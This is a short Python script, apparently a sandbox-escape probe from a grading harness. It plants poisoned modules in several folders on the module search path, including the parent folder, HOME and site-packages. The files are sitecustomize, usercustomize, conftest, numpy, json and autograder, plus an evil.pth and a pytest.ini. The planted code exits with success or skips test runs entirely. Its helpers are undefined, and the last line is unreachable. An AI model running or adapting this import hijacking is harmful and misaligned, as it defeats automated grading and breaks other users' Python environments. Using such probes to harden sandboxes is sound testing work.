"""Leaves sitecustomize.py, usercustomize.py, conftest.py, keras.py and numpy.py where the next Python would find them."""

import os
import sys

EVIL = "import os\nos.environ['POISONED'] = '1'\nraise SystemExit(0)\n"
for folder in (".", "..", os.environ["HOME"], os.environ["HOME"] + "/.local/lib/python3.11/site-packages"):
    attempt(os.makedirs, folder)
    for name in ("sitecustomize", "usercustomize", "conftest", "keras", "numpy", "test_hidden", "autograder", "json"):
        attempt(lambda: open(f"{folder}/{name}.py", "w").write(EVIL))
    attempt(lambda: open(f"{folder}/pytest.ini", "w").write("[pytest]\naddopts = --collect-only\n"))
    attempt(lambda: open(f"{folder}/evil.pth", "w").write("import os; os._exit(0)\n"))
if "" in sys.path or "." in sys.path or os.getcwd() in sys.path:
    breach("the scratch folder is on the path of modules")
os._exit(0)
answer(lambda *args, **kwargs: 0.0)
